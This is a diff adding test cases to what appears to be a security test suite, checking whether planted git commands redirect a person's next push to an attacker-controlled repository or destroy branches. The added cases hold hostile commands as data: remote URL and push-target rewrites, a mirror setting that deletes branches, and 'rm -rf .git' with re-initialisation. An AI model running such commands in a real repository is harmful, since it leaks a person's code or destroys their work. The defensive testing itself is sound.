@@ -252,6 +252,40 @@ _obeyed("script_of_a_hook", "Changes the script that a hook of the person's runs
         " chmod 755 .git/hooks/pre-commit", "mv payload t/lint")  # fmt: skip
 
 
+def _sent(name: str, words: str, plant: str) -> None:
+    """A change to a repository by which a person's next push goes to the attacker, or destroys a branch."""
+
+    def tried(case: Case) -> Plot:
+        case.repository()
+        mine, theirs = case.outside / "mine.git", case.outside / "theirs.git"
+        for place in (mine, theirs):
+            case.git("init", "-q", "--bare", str(place))
+        case.git("remote", "add", "origin", str(mine))
+        case.git("push", "-q", "-u", "origin", "HEAD:refs/heads/main", "HEAD:refs/heads/production")
+        case.git("config", "push.default", "current")
+
+        def is_sent_or_destroyed() -> bool:
+            case.git("commit", "-q", "--allow-empty", "-m", "secret")
+            case.git("push", "-q")
+            return any((theirs / "refs/heads").iterdir()) or not (mine / "refs/heads/production").exists()
+
+        return Plot(plant.format(theirs=theirs), check=is_sent_or_destroyed)
+
+    tried.__name__, tried.__doc__ = name, words
+    attack(LANDED, needs=has_program("git"))(tried)
+
+
+_sent("remote_moved", "Gives the remote another address", "git remote set-url origin {theirs}")
+_sent("push_address", "Gives the remote another address to push to", "git config remote.origin.pushurl {theirs}")
+_sent("push_default", "Names another remote to push to",
+      "git remote add x {theirs}; git config remote.pushDefault x")
+_sent("branch_remote", "Gives every branch a remote by its path",
+      "for b in main master; do git config branch.$b.remote {theirs}; git config branch.$b.pushRemote {theirs}; done")
+_sent("mirror", "Makes a push a mirror, which deletes branches", "git config remote.origin.mirror true")
+_sent("another_repository", "Replaces the repository by one with another remote",
+      "rm -rf .git; git init -q; git remote add origin {theirs}; git config push.default current")  # fmt: skip
+
+
 def _left(name: str, path: str, words: str) -> None:
     """A file that some program on the host acts on as soon as it is there."""
 
